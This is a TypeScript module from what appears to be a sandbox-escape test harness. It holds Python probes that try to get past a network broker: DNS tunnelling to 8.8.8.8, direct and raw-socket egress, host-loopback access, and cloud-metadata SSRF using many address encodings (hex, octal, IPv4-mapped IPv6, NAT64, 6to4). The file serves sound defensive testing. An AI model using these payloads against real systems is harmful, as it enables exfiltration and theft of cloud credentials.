import type { InsideAttack } from "../attack.ts";

/** What network attacks start with besides the prelude. The ports are variables of the stage. */
export const NETWORK_PRELUDE = `
import re, select, ssl
def dial():
    s = socket.create_connection(("127.0.0.1", 3128), 20); return s
def rest(s):
    got = b""
    try:
        while len(got) < 200000:
            more = s.recv(65536)
            if not more: break
            got += more
    except OSError: pass
    return got.decode("latin1")
def ask_once(data, s=None):
    s = s or dial()
    try: s.sendall(data.encode("latin1") if isinstance(data, str) else data)
    except OSError: pass
    return rest(s)
def ask(data, s=None):
    for _ in range(50): # a refused connection counts for a moment after its end
        answer = ask_once(data, s)
        if s or code(answer) != "too_many_connections": break
        time.sleep(0.1)
    return answer
def code(answer):
    found = re.search("x-handrail-refused: ([a-z_]+)", answer)
    return found.group(1) if found else ""
def gate(answer):
    if "REACHED" in answer: breach(answer[-100:])
    held(code(answer) or "cut off") if code(answer) or answer == "" else breach("other answer: " + answer[:100])
def all_refused(targets, *codes):
    seen = set()
    for target in targets:
        bare = target if re.search(r":\\d+$", target) else target + ":80"
        for text in ("GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (target, target), "CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (bare, bare)):
            answer = ask(text)
            if "REACHED" in answer or code(answer) not in codes: breach("%s: %s %s" % (target, code(answer), answer[:80]))
            seen.add(code(answer))
    held(", ".join(sorted(seen)))
def get(url, host, more="", body=""): return "GET %s HTTP/1.1\\r\\nHost: %s\\r\\n%s\\r\\n%s" % (url, host, more, body)
LISTED = "allowed.example:%d" % PORT
`;

/** `open`: every public address is allowed. `listed`: `allowed.example` and `.suffix.example` are, at one port. */
export type NetworkAttack = InsideAttack & { readonly rule: "open" | "listed" };

const NO_ROUTE = "no network interface but loopback";
export const PUBLIC_ONLY = "addresses checked after resolution: only the public internet";

/** One whose sandbox may reach listed hosts. */
export const listed = (id: string, tries: string, stoppedBy: string, script: string): NetworkAttack => ({
  id: `network.${id}`,
  rule: "listed",
  tries,
  stoppedBy,
  script,
});

const direct = (id: string, tries: string, act: string, codes = '"ENETUNREACH"'): NetworkAttack => ({
  id: `network.${id}`,
  rule: "open",
  tries,
  stoppedBy: NO_ROUTE,
  script: `attempt(lambda: ${act}, ${codes})`,
});

const UDP = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)";

const AROUND: readonly NetworkAttack[] = [
  direct("dns-tunnel", "send data out in DNS questions", `${UDP}.sendto(bytes(32), ("8.8.8.8", 53))`),
  {
    id: "network.resolver",
    rule: "open",
    tries: "have names resolved for it, data encoded in them",
    stoppedBy: "the only resolver is inside and asks nobody; the broker resolves only names that a rule allows",
    script: `
servers = re.findall(rb"nameserver (\\S+)", read("/etc/resolv.conf")) + [b"127.0.0.53", b"127.0.0.11", b"127.0.0.1"]
for server in servers:
    s = ${UDP}; s.settimeout(0.3)
    def asked():
        s.connect((server.decode(), 53)); s.send(bytes.fromhex("123401000001000000000000") + b"\\x06attack\\x07example\\x00\\x00\\x01\\x00\\x01"); return s.recv(512)
    try: answer = asked()
    except OSError: continue
    if len(answer) > 32 and answer[-4] != 127: breach("%s: %s" % (server, answer))
held("%d servers" % len(servers))`,
  },
  {
    id: "network.no-proxy",
    rule: "open",
    tries: "reach the metadata service by a name, without speaking to a proxy",
    stoppedBy: "names lead to sandboxd, which leads to the broker alone",
    script: `
seen = []
for port, words in ((80, b"GET / HTTP/1.1\\r\\nHost: metadata.example\\r\\n\\r\\n"), (443, bytes.fromhex("160301")), (PORT, b"x")):
    try: s = socket.create_connection(("metadata.example", port), 10)
    except OSError as e: seen.append(type(e).__name__); continue
    answer = ask_once(words, s)
    if answer.encode("latin1") == bytes.fromhex("15030300020231"): seen.append("access_denied"); continue
    if "REACHED" in answer or answer and code(answer) != "address_forbidden": breach("%d: %s" % (port, answer[:80]))
    seen.append(code(answer) or "cut off")
held(", ".join(seen))`,
  },
  direct("raw-address", "connect to an address, past the broker", 'socket.create_connection(("1.1.1.1", 443), 5)'),
  direct(
    "ipv6",
    "connect by IPv6, which is often forgotten",
    'socket.create_connection(("2606:4700:4700::1111", 443), 5)',
    '"ENETUNREACH", "EADDRNOTAVAIL", "EAFNOSUPPORT"',
  ),
  direct(
    "metadata-direct",
    "reach the cloud's metadata service, past the broker",
    'socket.create_connection(("169.254.169.254", 80), 5)',
  ),
  direct("multicast", "find machines around by multicast", `${UDP}.sendto(b"x", ("224.0.0.251", 5353))`),
  direct("icmp", "send data out in pings", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)", '"EPERM"'),
  direct("packets", "send raw frames", "socket.socket(17, socket.SOCK_RAW, 0x300)", '"EPERM", "EACCES"'),
  {
    id: "network.host-loopback",
    rule: "open",
    tries: "reach services of the host, on its loopback or its addresses",
    stoppedBy: NO_ROUTE,
    control: "none",
    script: `
for address in ["127.0.0.1", "::1", "0.0.0.0"] + ADDRESSES:
    try: s = socket.create_connection((address, HIDDEN), 2)
    except OSError: continue
    if "REACHED" in ask(get("/", "x"), s): breach(address)
held("%d addresses" % (3 + len(ADDRESSES)))`,
  },
];

const forms = (id: string, tries: string, targets: string, codes = '"address_forbidden"'): NetworkAttack => ({
  id: `network.${id}`,
  rule: "open",
  tries,
  stoppedBy: PUBLIC_ONLY,
  script: `all_refused(${targets}, ${codes})`,
});

const ADDRESSES: readonly NetworkAttack[] = [
  forms(
    "metadata",
    "reach the metadata service through the broker, in every spelling of its address",
    '["169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "168.63.129.16", "100.100.100.200"]',
  ),
  forms(
    "metadata-name",
    "reach the metadata service by a name that leads there",
    '["metadata.example", "METADATA.example.", "mixed.example"]',
  ),
  forms(
    "mapped-ipv6",
    "reach private addresses as IPv4-mapped or -compatible IPv6",
    '["[::ffff:169.254.169.254]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[::ffff:0:a9fe:a9fe]"]',
  ),
  forms("nat64", "reach private addresses through NAT64", '["[64:ff9b::a9fe:a9fe]", "[64:ff9b:1::7f00:1]"]'),
  forms(
    "6to4",
    "reach private addresses through 6to4 or Teredo",
    '["[2002:a9fe:a9fe::1]", "[2002:7f00:1::]", "[2001:0:a9fe:a9fe::1]"]',
  ),
  forms(
    "local-ipv6",
    "reach the machine or its network by local IPv6",
    '["[::1]", "[fe80::1]", "[fd00::1]", "[ff02::1]", "[::]"]',
  ),
  forms(
    "broker-loopback",
    "reach services of the host through the broker",
    '["127.0.0.1:%d" % HIDDEN, "127.1:%d" % HIDDEN, "0:%d" % HIDDEN, "loop.example:%d" % HIDDEN, "localhost:%d" % HIDDEN]',
    '"address_forbidden"',
  ),
  forms(
    "private-ranges",
    "reach the network around the machine",
    '["10.0.0.1", "172.17.0.1", "192.168.1.1", "100.64.0.1", "private.example"]',
  ),
];

/** Ways around the broker, and to addresses through it. */
export const NETWORK_ATTACKS: readonly NetworkAttack[] = [...AROUND, ...ADDRESSES];
